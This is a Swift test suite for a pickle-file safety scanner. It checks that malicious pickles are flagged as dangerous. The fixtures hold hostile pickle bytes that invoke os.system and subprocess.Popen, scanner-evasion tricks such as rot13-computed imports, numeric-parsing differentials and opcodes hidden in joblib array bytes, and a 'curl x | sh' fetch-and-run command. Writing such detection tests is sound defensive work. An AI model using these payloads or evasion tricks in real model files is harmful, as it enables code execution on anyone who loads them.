import PTViewCore
import PTViewJudge
import PTViewPickle
import Testing

/// Issue 10's four families, byte for byte (Tests/Interop/test_scan_families.py proves each on
/// CPython, torch, numpy and joblib with a harmless twin).
@Suite("SafetyFamilies")
struct SafetyFamiliesTests {
  static func scan(_ bytes: [UInt8]) -> SafetyReport {
    SafetyScanner().scan(MemorySource(bytes), path: "t.pkl")
  }
  static let hostile = Array("cos\nsystem\n(S'id'\ntR.".utf8)

  @Test(
    "text numbers CPython reads past are followed",
    arguments: [
      "I0x1\n0", "I0X1F\n0", "I0o7\n0", "I0b1\n0", "I1_0\n0", "I 1 \n0", "I010\n0", "I1\0zz\n0",
      "L0x1950a86a20f9469cfc6cL\n0", "L1_0L\n0", "F1.5\0zz\n0", "Np 1_0\n0g1_0\n0",
    ])
  func parserDifferentials(_ prefix: String) {
    let report = Self.scan(Array(prefix.utf8) + Self.hostile)
    #expect(report.verdict == .dangerous, "\(report.text)")
  }

  @Test("a bytes payload that crosses a frame's end is read across it, as CPython's readinto does")
  func bytesAcrossFrameEnd() {
    // FRAME(5) holds `K \xb7 C \x02 i`; SHORT_BINBYTES' payload `id` ends after the frame.
    // CPython (3.8+) reads such payloads with `_Unpickler_ReadInto`: the rest of the buffer
    // first, then the file, so the GLOBAL after it is imported (found by the differential
    // fuzzer: ptview used to drop the leftover byte and read `dc` as the payload).
    let bytes: [UInt8] =
      [0x95, 5, 0, 0, 0, 0, 0, 0, 0, 0x4B, 0xB7, 0x43, 0x02] + Array("idcos\nsystem\n.".utf8)
    let trace = PickleTrace(bytes)
    #expect(trace.events == [["g", "os", "system"]])
    #expect(trace.error == nil)
    #expect(Self.scan(bytes).verdict == .dangerous)
  }

  @Test("a legacy magic number written as text does not hide the main pickle")
  func legacyMagicAsText() {
    let bytes =
      Array("L0x1950a86a20f9469cfc6cL\n.".utf8) + [0x80, 0x02, 0x4D, 0xE9, 0x03, 0x2E]
      + [0x80, 0x02, 0x7D, 0x2E] + Self.hostile + [0x80, 0x02, 0x5D, 0x2E]
    #expect(Self.scan(bytes).verdict == .dangerous)
  }

  @Test("BUILD with a None state on a float: CPython reads on")
  func buildNoneState() {
    let bytes: [UInt8] =
      [0x47] + [UInt8](repeating: 0, count: 8) + [0x4E, 0x62, 0x30] + Self.hostile
    #expect(Self.scan(bytes).verdict == .dangerous)
  }

  static func rot13Call(_ text: String) -> [UInt8] {
    [0x8C, 7] + Array("_codecs".utf8) + [0x8C, 6] + Array("encode".utf8) + [0x93, 0x8C]
      + [UInt8(text.utf8.count)] + Array(text.utf8) + [0x8C, 5] + Array("rot13".utf8) + [
        0x86, 0x52,
      ]
  }

  @Test("STACK_GLOBAL on computed operands is dangerous, whatever they compute")
  func computedImports() {
    // _codecs.encode('ohvygvaf', 'rot13') is 'builtins', 'yra' is 'len': harmless, still dangerous.
    for (module, name) in [("bf", "flfgrz"), ("ohvygvaf", "yra")] {
      let bytes: [UInt8] =
        [0x80, 0x04] + Self.rot13Call(module) + Self.rot13Call(name) + [0x93, 0x8C, 2]
        + Array("ab".utf8)
        + [0x85, 0x52, 0x2E]
      let report = Self.scan(bytes)
      #expect(report.verdict == .dangerous, "\(report.text)")
      #expect(report.findings.contains { $0.kind == .computedImport }, "\(report.text)")
    }
    // A global whose value is a str (os.sep) as the module.
    let sep: [UInt8] =
      [0x80, 0x04, 0x8C, 2] + Array("os".utf8) + [0x8C, 3] + Array("sep".utf8) + [0x93, 0x8C, 6]
      + Array("system".utf8) + [0x93, 0x2E]
    #expect(Self.scan(sep).verdict == .dangerous)
    // Operands of a known non-str type: CPython refuses, and so does the VM.
    var machine = Machine()
    #expect(throws: PickleError.self) {
      _ = try machine.load([0x80, 0x04, 0x4B, 1, 0x4B, 2, 0x93, 0x2E])
    }
  }

  @Test("a call on an extension code: unscannable, dangerous with a command, the code named")
  func extensionCodes() {
    let plain = Self.scan(
      [0x80, 0x02, 0x82, 0xF0, 0x8C, 5] + Array("hello".utf8) + [0x85, 0x52, 0x2E])
    #expect(plain.verdict == .unscannable, "\(plain.text)")
    #expect(plain.findings.contains { $0.global == "copyreg extension 240" })
    let command = Self.scan(
      [0x80, 0x02, 0x83, 0x39, 0x30, 0x8C, 11] + Array("curl x | sh".utf8) + [0x85, 0x52, 0x2E])
    #expect(command.verdict == .dangerous, "\(command.text)")
    #expect(command.findings.contains { $0.global == "copyreg extension 12345" })
    // Referenced only, or called without arguments: suspicious.
    #expect(Self.scan([0x80, 0x02, 0x82, 0xF0, 0x2E]).verdict == .suspicious)
    #expect(Self.scan([0x80, 0x02, 0x82, 0xF0, 0x29, 0x52, 0x2E]).verdict == .suspicious)
  }

  static func global(_ module: String, _ name: String) -> [UInt8] {
    [0x63] + Array("\(module)\n\(name)\n".utf8)
  }

  @Test("numpy's random-state constructors: suspicious with plain arguments, never a loophole")
  func numpyRandom() {
    let ctor = Self.global("numpy.random._pickle", "__randomstate_ctor")
    let bitgen = Self.global("numpy.random._pickle", "__bit_generator_ctor")
    let plain: [UInt8] =
      [0x80, 0x02] + ctor + [0x8C, 7] + Array("MT19937".utf8) + bitgen + [0x86, 0x52, 0x2E]
    #expect(Self.scan(plain).verdict == .suspicious, "\(Self.scan(plain).text)")
    let hostile: [UInt8] =
      [0x80, 0x02] + ctor + [0x8C, 2] + Array("id".utf8) + Self.global("os", "system") + [
        0x86, 0x52, 0x2E,
      ]
    #expect(Self.scan(hostile).verdict == .dangerous)
    let popen: [UInt8] =
      [0x80, 0x02] + bitgen + Self.global("subprocess", "Popen") + [0x85, 0x52, 0x2E]
    #expect(Self.scan(popen).verdict == .dangerous)
  }

  /// joblib.dump([np.arange(3, dtype='<i8'), x]) as joblib 1.6 writes it (protocol 2, so no
  /// frames): the wrapper, its BUILD, an alignment byte and padding, 24 raw bytes, then x.
  static func joblibStream(after tail: [UInt8]) -> [UInt8] {
    var b: [UInt8] = [0x80, 0x02, 0x5D, 0x28]
    b += Self.global("joblib.numpy_pickle", "NumpyArrayWrapper") + [0x29, 0x81, 0x7D, 0x28]
    b += [0x8C, 8] + Array("subclass".utf8) + Self.global("numpy", "ndarray")
    b += [0x8C, 5] + Array("shape".utf8) + [0x4B, 3, 0x85]
    b += [0x8C, 5] + Array("order".utf8) + [0x8C, 1] + Array("C".utf8)
    b +=
      [0x8C, 5] + Array("dtype".utf8) + Self.global("numpy", "dtype") + [0x8C, 2] + Array("i8".utf8)
    b += [0x89, 0x88, 0x87, 0x52, 0x28, 0x4B, 3, 0x8C, 1, 0x3C, 0x4E, 0x4E, 0x4E]
    b += [0x4A, 0xFF, 0xFF, 0xFF, 0xFF, 0x4A, 0xFF, 0xFF, 0xFF, 0xFF, 0x4B, 0, 0x74, 0x62]
    b += [0x8C, 10] + Array("allow_mmap".utf8) + [0x88]
    b += [0x8C, 27] + Array("numpy_array_alignment_bytes".utf8) + [0x4B, 16, 0x75, 0x62]
    b += [3, 0xFF, 0xFF, 0xFF]  // padding length and padding
    b += [UInt8](repeating: 0x2E, count: 24)  // array bytes that would read as STOPs
    return b + tail + [0x65, 0x2E]
  }

  @Test("array bytes that a plain pickle.load would run as opcodes are judged too")
  func joblibArrayBytesAsOpcodes() {
    // Without the alignment key no padding byte stops a plain reader: it runs the 24 bytes.
    var stream = Self.joblibStream(after: [0x4B, 7])
    let payload = Array("cos\nsystem\n(S'idd'\ntR0N0".utf8)
    let key: [UInt8] = [0x8C, 27] + Array("numpy_array_alignment_bytes".utf8) + [0x4B, 16]
    guard let at = stream.firstRange(of: key), let pad = stream.firstRange(of: [0x62, 3, 0xFF])
    else {
      Issue.record("stream layout changed")
      return
    }
    stream.replaceSubrange((pad.lowerBound + 1)..<(pad.lowerBound + 4 + 24), with: payload)
    stream.removeSubrange(at)
    #expect(payload.count == 24)
    let report = Self.scan(stream)
    #expect(report.verdict == .dangerous, "\(report.text)")
  }

  @Test("joblib's raw array bytes are skipped and what follows is judged")
  func joblibArrays() {
    let plain = Self.scan(Self.joblibStream(after: [0x4B, 7]))
    #expect(plain.verdict == .suspicious, "\(plain.text)")
    let hostile = Self.scan(Self.joblibStream(after: Array(Self.hostile.dropLast())))
    #expect(hostile.verdict == .dangerous, "\(hostile.text)")
  }
}
